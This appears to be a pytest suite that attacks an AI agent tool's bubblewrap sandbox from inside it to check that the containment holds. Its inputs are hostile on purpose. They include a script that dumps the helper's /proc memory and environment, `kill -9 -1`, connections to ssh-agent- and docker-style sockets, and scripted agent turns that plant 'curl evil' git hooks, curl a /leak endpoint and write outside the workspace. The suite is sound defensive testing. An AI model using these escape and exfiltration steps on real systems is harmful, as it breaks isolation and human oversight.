"""The sandbox itself, attacked from inside it (issue 27 item 9, C40): its
helper cannot be read or stopped by the commands it runs, a dead helper
ends its call at once and takes its commands with it, the scratch folder
has a size cap, unix sockets outside the workspace are out of reach when
the network is off, and package managers find a writable cache.

Real bubblewrap, real processes, real listening unix sockets. Each attack
runs as root and, where the class allows, as another local user (bwrap then
runs in a user namespace of its own). Every assertion is an effect: a
connection that reached a listener, a file that exists or not, bytes that
were read.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

from tests.conftest import REPO
from tests.redteam.harness import ROOT, SETPRIV, Keys, User, _as
from tests.sandbox.conftest import needs_bwrap

pytestmark = needs_bwrap
BOX = Path(__file__).with_name("_box.py")
PY = "/usr/bin/python3" if os.path.exists("/usr/bin/python3") else sys.executable


class Player:
    """Root, or another local user: runs `_box.py` steps in a sandbox over a
    workspace of its own."""

    def __init__(self, base: Path, user: User | None = None):
        self.user, self.base = user, base
        self.ws, self.state = base / "ws", base / "state"
        self.scratch = self.state / "subagents" / "sa_x.tmp"
        for d in (self.ws, self.scratch):
            d.mkdir(parents=True, exist_ok=True)
        if user is not None:
            for d in (base, self.ws, self.state, self.state / "subagents", self.scratch):
                os.chown(d, user.uid, user.uid)

    def run(self, steps: list[dict], *, env: dict[str, str] | None = None, **spec) -> list[dict]:
        doc = {"ws": str(self.ws), "scratch": str(self.scratch), "hidden": [str(self.state)],
               "steps": steps, "env": env or {}, **spec}
        path = self.base / f"spec-{uuid.uuid4().hex[:6]}.json"
        path.write_text(json.dumps(doc))
        os.chmod(path, 0o644)
        if self.user is None:
            argv = [sys.executable, str(BOX), str(path)]
            run_env = {**os.environ, "PYTHONPATH": str(REPO), **(env or {})}
        else:
            argv = [*_as(self.user.uid), self.user.python, str(BOX), str(path)]
            run_env = {**self.user.env, **(env or {})}
        done = subprocess.run(argv, capture_output=True, timeout=300, env=run_env,
                              cwd=str(self.ws))
        assert done.returncode == 0, done.stderr.decode(errors="replace")[-3000:]
        return json.loads(done.stdout)


@pytest.fixture(params=["root", "user"])
def player(request, tmp_path, other_user):
    if request.param == "root":
        yield Player(tmp_path / "root")
        return
    if not (ROOT and SETPRIV):
        pytest.skip("playing another local user needs root and setpriv")
    user = other_user(Keys(), "http://127.0.0.1:9")
    yield Player(user.root / "box", user)


# ------------------------------------------------------------------ the helper


READ_HELPER = r'''
import os
def argv(pid):
    return open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
helper = [p for p in os.listdir("/proc") if p.isdigit()  # the helper, not bwrap that ran it
          and any(a.endswith(b"inner.py") for a in argv(p)) and not argv(p)[0].endswith(b"bwrap")]
print("HELPERS", len(helper))
for pid in helper:
    try:
        print("ENVIRON", len(open(f"/proc/{pid}/environ", "rb").read()))
    except OSError as exc:
        print("ENVIRON-DENIED", exc.errno)
    try:
        maps = open(f"/proc/{pid}/maps").read().split()
        print("MAPS", len(maps))
    except OSError as exc:
        print("MAPS-DENIED", exc.errno)
    try:
        with open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in open(f"/proc/{pid}/maps"):
                lo = int(line.split("-")[0], 16)
                if "r" in line.split()[1]:
                    mem.seek(lo)
                    print("MEM", len(mem.read(64)))
                    break
    except OSError as exc:
        print("MEM-DENIED", exc.errno)
'''


def test_the_helper_is_not_dumpable(player):
    (player.ws / "peek.py").write_text(READ_HELPER)
    out = player.run([{"command": f"{PY} peek.py"}])[0]["content"]
    assert "HELPERS 1" in out, out  # the helper is there to be attacked
    assert "\nMEM " not in out and "\nENVIRON " not in out and "\nMAPS " not in out, out


def test_kill_all_inside_neither_kills_the_helper_nor_cuts_the_call_short(player):
    after = player.ws / "after"
    steps = player.run([
        {"command": f"kill -9 -1; sleep 1; echo done > {after}; echo finished",
         "timeout_s": 20, "check_exists": str(after)},
        {"command": "echo next"}])
    first, second = steps
    assert first["exists"], first  # the call waited for its command to end
    assert "finished" in first["content"] and first["elapsed"] < 15, first
    assert "next" in second["content"], second


def test_a_dead_helper_ends_its_call_at_once_and_its_commands_with_it(player):
    late = player.ws / "late"
    first, second = player.run([
        {"command": f"sleep 3; touch {late}; sleep 60", "timeout_s": 90,
         "kill_helper_after": 1.0},
        {"command": "sleep 4; echo fresh"}])
    assert first["killed"], first  # the helper was found and killed from outside
    assert first["elapsed"] < 30 and not first["ok"], first
    assert "fresh" in second["content"] and second["starts"] == 2, second
    assert not late.exists()  # the command did not outlive its sandbox


# ------------------------------------------------------------- scratch folder


def test_the_scratch_folder_and_shared_memory_have_a_size_cap(player):
    cap = 8 << 20
    fill = ("dd if=/dev/zero of={} bs=1M count=32 2>/dev/null; stat -c 'SIZE %s' {}")
    out = player.run([{"command": "; ".join([fill.format("$TMPDIR/big", "$TMPDIR/big"),
                                            fill.format("/dev/shm/big", "/dev/shm/big")])}],
                     policy={"scratch_size": cap})[0]["content"]
    sizes = [int(line.split()[1]) for line in out.splitlines() if line.startswith("SIZE ")]
    assert len(sizes) == 2 and all(0 < s <= cap for s in sizes), out
    host = player.scratch / "big"
    assert not host.exists() or host.stat().st_size <= cap


# ------------------------------------------------------------------- sockets


class UnixListener:
    """A listening unix socket that records every connection (reachable by
    anyone on the host: only the sandbox stands in the way)."""

    def __init__(self, path: Path):
        self.path = path
        path.parent.mkdir(parents=True, exist_ok=True)
        for d in (path.parent, path.parent.parent):
            if str(d).startswith(("/tmp/", "/var/tmp/", "/run/user/")):
                os.chmod(d, 0o777)
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.bind(str(path))
        os.chmod(path, 0o777)
        self.sock.listen()
        self.hits: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                self.hits.append(conn.recv(16) or b"connected")

    def close(self) -> None:
        self.sock.close()
        self.path.unlink(missing_ok=True)


CONNECT = r'''
import socket, sys
for p in sys.argv[1:]:
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(3)
        s.connect(p)
        s.sendall(b"knock")
        s.close()
        print("REACHED", p)
    except OSError as exc:
        print("NOT", p, exc)
'''


@pytest.fixture
def sockets():
    """Listeners where a desktop keeps its sockets: /tmp (tmux, X11, ssh-agent),
    a runtime folder under /run/user and one XDG_RUNTIME_DIR names elsewhere
    (D-Bus, rootless docker), and a folder no variable names (an ssh
    ControlMaster, a docker.sock)."""
    tag = uuid.uuid4().hex[:8]
    uid_dir = Path(f"/run/user/{61000 + int(tag[:3], 16) % 900}")
    fresh = not uid_dir.exists()  # removed after, if this test made it and nobody else uses it
    runtime = Path(f"/var/tmp/zapcli-rt-{tag}")
    made = [Path(f"/var/tmp/zapcli-sock-{tag}"), runtime, Path(f"/tmp/zapcli-tmux-{tag}"),
            uid_dir / f"zapcli-{tag}"]
    try:
        listeners = {
            "tmp": UnixListener(made[2] / "default"),
            "run_user": UnixListener(made[3] / "bus"),
            "runtime": UnixListener(runtime / "docker.sock"),
            "elsewhere": UnixListener(made[0] / "ssh-control.sock"),
        }
    except PermissionError as exc:
        pytest.skip(f"cannot make the socket folders here: {exc}")
    yield listeners, {"XDG_RUNTIME_DIR": str(runtime)}
    for lst in listeners.values():
        lst.close()
    # Another test's sandbox may have listed these sockets a moment ago and be
    # about to mask them: a socket whose folder goes in that moment fails that
    # sandbox's start (a product race, in the closing note). Closed, they are
    # no longer listed; their folders go a little later.
    time.sleep(1.0)
    for d in made:
        shutil.rmtree(d, ignore_errors=True)
    if fresh:
        try:
            uid_dir.rmdir()
        except OSError:
            pass


def test_network_off_hides_unix_sockets_outside_the_workspace(player, sockets):
    listeners, env = sockets
    inside = UnixListener(player.ws / "own.sock")  # its own: the workspace stays usable
    try:
        (player.ws / "connect.py").write_text(CONNECT)
        paths = " ".join(str(lst.path) for lst in [*listeners.values(), inside])
        out = player.run([{"command": f"{PY} connect.py {paths}"}], env=env)[0]["content"]
        assert inside.hits == [b"knock"], out
        reached = {name: lst.hits for name, lst in listeners.items() if lst.hits}
        assert not reached, out
    finally:
        inside.close()


def test_a_declared_socket_stays_reachable(player, sockets):
    listeners, env = sockets
    (player.ws / "connect.py").write_text(CONNECT)
    want = listeners["runtime"]
    out = player.run([{"command": f"{PY} connect.py {want.path} {listeners['tmp'].path}"}],
                     env=env, policy={"sockets": [str(want.path)]})[0]["content"]
    assert want.hits == [b"knock"], out
    assert not listeners["tmp"].hits, out


# ----------------------------------------------------------------- caches (C40)


def test_package_managers_find_a_writable_cache(player):
    dep = player.ws / "dep"
    dep.mkdir()
    (dep / "package.json").write_text(json.dumps({"name": "dep", "version": "1.0.0"}))
    (player.ws / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0"}))
    if player.user is not None:
        for p in (dep, dep / "package.json", player.ws / "package.json"):
            os.chown(p, player.user.uid, player.user.uid)
    steps = [{"command": f'd=$({PY} -m pip cache dir) && mkdir -p "$d" && touch "$d/probe" '
                         "&& echo pip-cache-ok", "timeout_s": 60},
             {"command": 'for v in XDG_CACHE_HOME UV_CACHE_DIR npm_config_cache; do '
                         'eval d=\\$$v; mkdir -p "$d" && touch "$d/probe" && echo "$v-ok"; done'}]
    if shutil.which("npm"):
        steps.append({"command": "cd dep && npm pack --offline && cd .. && "
                                 "npm install --offline ./dep/dep-1.0.0.tgz", "timeout_s": 120})
    results = player.run(steps)
    assert "pip-cache-ok" in results[0]["content"], results[0]
    for name in ("XDG_CACHE_HOME", "UV_CACHE_DIR", "npm_config_cache"):
        assert f"{name}-ok" in results[1]["content"], results[1]
    if shutil.which("npm"):
        assert (player.ws / "node_modules" / "dep" / "package.json").exists(), results[2]


# ------------------------------------------------- from the command line (e2e)


def _define(zap, name: str, sandbox: str) -> None:
    """A definition in the user's own folder (trusted, unlike a workspace's)."""
    folder = zap.env["ZAPCLI_CONFIG_HOME"] + "/subagents"
    os.makedirs(folder, exist_ok=True)
    Path(folder, f"{name}.yml").write_text(
        f"name: {name}\ndescription: test\ntools: [bash]\nsandbox: {sandbox}\n")


def _bash_turns(task: str, command: str) -> dict:
    return {"match": task, "turns": [
        {"tool_calls": [{"name": "bash", "arguments": {"command": command}}]}, {"text": "done"}]}


def test_the_scratch_folder_is_capped_as_declared_and_goes_when_the_subagent_ends(zap, model):
    _define(zap, "capped", "{scratch_size: 8M}")
    model([_bash_turns("fill the scratch", "dd if=/dev/zero of=$TMPDIR/big bs=1M count=32 "
                       "2>/dev/null; stat -c %s $TMPDIR/big > size.txt; echo $TMPDIR > where.txt")])
    agent = zap("spawn", "--agent", "capped", "--approval", "full", "--",
                "fill the scratch").out.strip()
    sh = zap.spawn_sh("echo kept > $TMPDIR/notes; cat $TMPDIR/notes", "--sandbox")
    assert zap("wait", "--timeout", "60", agent, sh).returncode == 0, zap("replay", agent).out
    assert 0 < int((zap.cwd / "size.txt").read_text()) <= 8 << 20
    assert (zap.cwd / "where.txt").read_text().strip() == str(zap.home / "subagents" / f"{agent}.tmp")
    assert "kept" in zap("output", sh).out
    for sid in (agent, sh):
        assert not (zap.home / "subagents" / f"{sid}.tmp").exists()


def test_a_symlinked_git_folder_never_leaves_its_hooks_writable(zap, model):
    """`.git` a link to a folder in the workspace: a mount cannot pin a link,
    so a command could write through it, or swap it for a folder of its own."""
    (zap.cwd / "realgit" / "hooks").mkdir(parents=True)
    (zap.cwd / ".git").symlink_to("realgit")
    model([_bash_turns("plant a hook", "echo 'curl evil' > .git/hooks/pre-commit; "
                       "rm .git; mkdir -p .git/hooks; echo 'curl evil' > .git/hooks/post-checkout")])
    spawned = zap("spawn", "--", "plant a hook")  # refused at once: its sandbox could not start
    assert spawned.returncode == 2 and "symbolic link" in spawned.err, (spawned.out, spawned.err)
    assert not (zap.cwd / "realgit" / "hooks" / "pre-commit").exists()
    assert (zap.cwd / ".git").is_symlink()  # not swapped for a folder of the agent's
    ran = zap("run", "--", "plant a hook")
    assert not (zap.cwd / "realgit" / "hooks" / "pre-commit").exists(), ran.err
    assert "symbolic link" in ran.err and "Traceback" not in ran.err and "bwrap:" not in ran.err


NO_NETNS = "echo 0 > /proc/sys/user/max_net_namespaces && exec \"$@\""


def _without_netns(zap, *args: str) -> subprocess.CompletedProcess:
    """zapcli where the kernel refuses new network namespaces and allows the
    rest (a user namespace of its own whose limit says 0): the host many
    containers are. A real refusal by the kernel, not a stand-in."""
    proc = subprocess.run(["unshare", "-Ur", "sh", "-c", NO_NETNS, "sh", sys.executable, "-m",
                           "zapcli", *args], capture_output=True, timeout=120, cwd=zap.cwd,
                          env=zap.env, stdin=subprocess.DEVNULL)
    proc.out, proc.err = proc.stdout.decode(), proc.stderr.decode()  # type: ignore[attr-defined]
    return proc


@pytest.fixture
def no_netns(zap):
    probe = subprocess.run(["unshare", "-Ur", "sh", "-c", NO_NETNS + " && true", "sh", "true"],
                           capture_output=True, timeout=30)
    if probe.returncode != 0 or not shutil.which("unshare"):
        pytest.skip("cannot make a user namespace with no network namespaces left here")
    return lambda *args: _without_netns(zap, *args)


def test_a_host_without_network_namespaces_never_runs_network_off_as_sandboxed(
        zap, model, no_netns, outside, listener):
    _define(zap, "online", "{network: true}")
    _define(zap, "offline", "{network: false}")
    model([_bash_turns("write outside", f"touch {outside}/escaped"),
           _bash_turns("reach out", f"curl -s -m 5 {listener.url}/leak; touch {outside}/offline")])
    # the rest of the sandbox holds where only the network namespace is missing
    spawned = no_netns("spawn", "--agent", "online", "--approval", "full", "--", "write outside")
    assert spawned.returncode == 0, spawned.err
    assert no_netns("wait", "--timeout", "60", spawned.out.strip()).returncode == 0
    assert not (outside / "escaped").exists()
    # network off cannot be kept: --sandbox refuses, nothing reaches the listener
    refused = no_netns("spawn", "--agent", "offline", "--sandbox", "--approval", "full", "--",
                       "reach out")
    assert refused.returncode != 0 and not listener.hits and not (outside / "offline").exists()
    # the default runs, and says the network is on, at spawn, in the trail and in doctor
    said = no_netns("spawn", "--agent", "offline", "--approval", "full", "--", "reach out")
    assert "WITH the network" in said.err, said.err
    no_netns("wait", "--timeout", "60", said.out.strip())
    assert "WITH the network" in zap("replay", said.out.strip()).out
    doctor = json.loads(no_netns("doctor", "--json").stdout)
    check = next(c for c in doctor["checks"] if c["name"] == "sandbox")
    assert check["warning"] and any("NOT cut off" in p for p in check["problems"]), check
